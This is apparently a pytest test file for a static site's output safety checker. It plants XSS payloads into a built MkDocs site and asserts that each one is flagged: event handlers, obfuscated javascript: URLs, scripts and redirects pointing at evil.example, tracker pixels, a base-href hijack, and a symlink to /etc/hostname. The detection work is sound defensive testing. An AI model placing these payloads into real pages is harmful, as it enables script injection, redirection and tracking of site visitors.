"""The output invariant (kbsite/site_safety.py) on built sites, however markup got there.

A clean build passes; then markup is planted straight into the written files
(as a bug in a template or a hook would write it, past every check on the
Markdown), and each plant must be found, naming the file: standalone, at the
end of a build (hooks/finish.py: ``mkdocs build`` fails, ``mkdocs serve``
warns) and in the parallel build's whole-site steps.
"""

from __future__ import annotations

import json
import logging
import shutil
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest

import finish
from conftest import ROOT
from kbsite import site_safety, site_steps

THEME_DIRS = [ROOT / "overrides", Path(__import__("material").__file__).parent / "templates"]
PAGE = "guides/materiel/index.html"
# (what is planted in the page's <article>, the start of the violation it must give)
PLANTED_IN_PAGE = [
    ("<svg/onload=alert(1)>", "onload= on <svg> is an event handler"),
    ('<a href="jav&#x09;ascript&colon;alert(1)">x</a>', "href='jav\\tascript:alert(1)' on <a>: the javascript:"),
    ('<a href="\x01javascript:alert(1)">x</a>', "href='\\x01javascript:alert(1)' on <a>: the javascript:"),
    ('<img src="//tracker.example/p.gif">', "src='//tracker.example/p.gif' on <img> loads or sends"),
    ('<img src="/\\tracker.example/p.gif">', "src='/\\\\tracker.example/p.gif' on <img> loads or sends"),
    ("<script>alert(1)</script>", "inline <script> that the theme did not write: 'alert(1)'"),
    ('<script src="https://evil.example/x.js"></script>', "<script src='https://evil.example/x.js'>: not one"),
    ('<script src="../../assets/stylesheets/extra.css"></script>', "<script src='../../assets/stylesheets/extra.css'>"),
    ('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "<meta http-equiv='refresh'>"),
    # A refresh is a redirect page's: at once, to this site only.
    ('<meta http-equiv="refresh" content="0; url=https://evil.example/">', "<meta http-equiv='refresh'> to '0; url=https"),
    ('<meta http-equiv="refresh" content="0;URL=//evil.example/x">', "<meta http-equiv='refresh'> to '0;URL=//evil"),
    ('<meta http-equiv="refresh" content="5; url=../">', "<meta http-equiv='refresh'> to '5; url=../'"),
    ('<meta http-equiv="refresh" content="0; url=\'https://evil.example/\'">', "<meta http-equiv='refresh'> to"),
    ('<base href="https://evil.example/">', "<base> (only an embed variant's own"),
    ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "<iframe> loads or hides markup"),
    ("<object data=x.swf></object>", "<object> loads or hides markup"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "<noscript> loads or hides"),
    ('<div style="background:url(https://tracker.example/t)">y</div>', "CSS url(https://tracker.example/t) loads"),
    ('<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">z</maction></math>',
     "xlink:href='javascript:alert(1)' on <maction>"),
    ('<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>', "<animate attributeName='href'>"),
    ('<svg><set attributeName="onmouseover" to="alert(1)"/></svg>', "<set attributeName='onmouseover'>"),
    ('<form action="https://evil.example"><button formaction="javascript:alert(1)">b</button></form>',
     "action='https://evil.example' on <form> loads or sends"),
    ('<a ping="https://tracker.example">p</a>', "ping= on <a>"),
    ('<template><img src=x onerror=alert(1)></template>', "<template> loads or hides markup"),
]
PLANTED_FILES = {
    "x.js": ("alert(1)", "a JavaScript file that is not one of the site's own scripts"),
    "x.htm": ("<script>alert(1)</script>", "a .htm file (a type a browser may run"),
    "assets/images/x.svg": ('<svg xmlns="http://www.w3.org/2000/svg"><x:script xmlns:x="http://www.w3.org/2000/svg">'
                            "alert(1)</x:script></svg>", "<script> is not an element an SVG image may hold"),
    "assets/x.css": ("body{background:u\\72l(//tracker.example/x)}", "CSS url(//tracker.example/x) loads a file"),
    "x.xml": ('<?xml-stylesheet type="text/xsl" href="x.xsl"?><urlset/>', "an <?xml-stylesheet?> instruction"),
    # The search worker follows a result's address (kbsite/search_shards.py files)
    "search/kb/p/90.json": ('{"u":"javascript:alert(1)//","t":"x","s":[]}', "search page address 'javascript:"),
    "en/search/kb/p/91.json": ('{"u":"//evil.example/","t":"x","s":[]}', "search page address '//evil.example/'"),
    "search/kb/0123abcd/p/92.json": ('{"u":"x/","t":"x","s":[["a", 1, "t"]]}', "not [anchor, heading, text]"),
    "search/kb/0123abcd/s/zz.json": ("{not json", "not valid JSON"),
}


@pytest.fixture
def built(fixture_site, tmp_path):
    """A copy of a clean build of the bilingual fixture, to plant markup into."""
    source = fixture_site("bilingual")
    site = tmp_path / "site"
    shutil.copytree(source.site_dir, site)
    return site, source.site_url


def violations(site: Path, site_url: str, docs: Path | None = None) -> list[str]:
    return [str(v) for v in site_safety.check(site, site_url, THEME_DIRS, docs)]


def test_a_clean_build_passes(built):
    site, site_url = built
    assert violations(site, site_url) == []


def test_the_real_site_passes_standalone(real_site):
    result = subprocess.run([sys.executable, str(ROOT / "tools" / "finish_site.py"), "site_safety", str(real_site.build.site_dir),
                             "--site-url", real_site.base_url, "--docs-dir", str(ROOT / "docs")],
                            capture_output=True, text=True, timeout=120)
    assert (result.returncode, result.stdout) == (0, ""), result.stdout + result.stderr


def test_every_plant_in_a_page_is_found_naming_the_file_and_its_markdown(built):
    site, site_url = built
    page = site / PAGE
    html = page.read_text(encoding="utf-8")
    marker = '<article class="md-content__inner md-typeset">'
    assert marker in html
    page.write_text(html.replace(marker, marker + "".join(plant for plant, _ in PLANTED_IN_PAGE), 1),
                    encoding="utf-8")
    found = violations(site, site_url, FIXTURES_DOCS)
    for plant, expected in PLANTED_IN_PAGE:
        assert any(v.startswith(f"{PAGE} (from ") and expected in v for v in found), (plant, found)
    assert all(v.startswith(f"{PAGE} (from {FIXTURES_DOCS.as_posix()}/guides/materiel.md): unsafe: ")
               for v in found), found


FIXTURES_DOCS = ROOT / "tests" / "fixtures" / "bilingual"


def test_every_planted_file_and_embed_code_is_found(built):
    site, site_url = built
    for name, (text, _) in PLANTED_FILES.items():
        (site / name).parent.mkdir(parents=True, exist_ok=True)
        (site / name).write_text(text, encoding="utf-8")
    oembed = site / "embed" / "guides" / "materiel" / "oembed.json"
    document = json.loads(oembed.read_text(encoding="utf-8"))
    document["html"] = document["html"].replace(" sandbox=", " data-sandbox=") + "<img src=x onerror=alert(1)>"
    oembed.write_text(json.dumps(document), encoding="utf-8")
    (site / "linked.html").symlink_to("/etc/hostname")
    found = violations(site, site_url)
    for name, (_, expected) in PLANTED_FILES.items():
        assert any(v.startswith(f"{name}: unsafe: ") and expected in v for v in found), (name, found)
    relative = "embed/guides/materiel/oembed.json"
    assert f"{relative}: unsafe: embed code: onerror= on <img> is an event handler" in found
    assert any(v.startswith(f"{relative}: unsafe: embed code: <iframe sandbox=None>") for v in found), found
    assert "linked.html: unsafe: a symbolic link (the site must hold its own files)" in found


def test_the_standalone_check_exits_1_and_prints_each_violation(built):
    site, site_url = built
    (site / "x.js").write_text("alert(1)", encoding="utf-8")
    result = subprocess.run([sys.executable, str(ROOT / "tools" / "finish_site.py"), "site_safety", str(site), "--site-url",
                             site_url], capture_output=True, text=True, timeout=120)
    assert result.returncode == 1
    assert result.stdout.splitlines() == ["x.js: unsafe: a JavaScript file that is not one of the site's own scripts"]


def hook_config(site: Path, site_url: str):
    return SimpleNamespace(site_dir=str(site), site_url=site_url, config_file_path=str(ROOT / "mkdocs.yml"),
                           docs_dir=str(FIXTURES_DOCS), extra={},
                           theme=SimpleNamespace(dirs=[str(d) for d in THEME_DIRS], custom_dir=str(ROOT / "overrides"),
                                                 get=lambda key, default=None: default),
                           plugins={})


def test_the_hook_fails_a_build_and_warns_under_serve(built, caplog):
    from mkdocs.exceptions import PluginError

    site, site_url = built
    (site / "x.js").write_text("alert(1)", encoding="utf-8")
    config = hook_config(site, site_url)
    finish.on_startup("build")
    with pytest.raises(PluginError, match="1 unsafe file"):
        finish.on_post_build(config)
    finish.on_startup("serve")
    with caplog.at_level(logging.WARNING, logger="mkdocs.plugins.site_safety"):
        finish.on_post_build(config)  # no exception: the editor keeps the preview
    assert [r.levelname for r in caplog.records if "x.js: unsafe:" in r.getMessage()][-1] == "WARNING"
    finish.on_startup("build")


def test_the_parallel_builds_whole_site_steps_fail_on_a_violation(built, capsys):
    import parallel_build

    site, site_url = built
    (site / "x.js").write_text("alert(1)", encoding="utf-8")
    settings = site_steps.Site(
        root=site, site_url=site_url, docs_dir=FIXTURES_DOCS, languages=(("fr", ""), ("en", "en/")),
        theme_dirs=tuple(THEME_DIRS), worker_source=ROOT / "overrides" / "sw.js", shown_from=ROOT)
    assert parallel_build.finish(settings) == 1
    assert "ERROR    -  site_safety: x.js: unsafe: a JavaScript file" in capsys.readouterr().err
